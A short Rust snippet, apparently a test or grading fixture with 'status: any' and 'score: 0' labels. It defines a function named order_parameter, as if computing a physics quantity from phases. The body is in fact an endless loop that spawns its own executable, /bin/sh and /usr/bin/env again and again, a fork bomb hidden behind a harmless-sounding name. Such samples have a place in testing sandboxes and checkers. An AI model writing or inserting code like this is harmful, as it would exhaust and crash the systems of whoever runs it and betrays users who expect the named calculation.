//! Starts itself again and again.
//! status: any
//! score: 0

fn order_parameter(phases: &Array1<f64>) -> f64 {
    loop {
        for program in ["/proc/self/exe", "/bin/sh", "/usr/bin/env"] {
            let _ = std::process::Command::new(program).spawn();
        }
    }
}
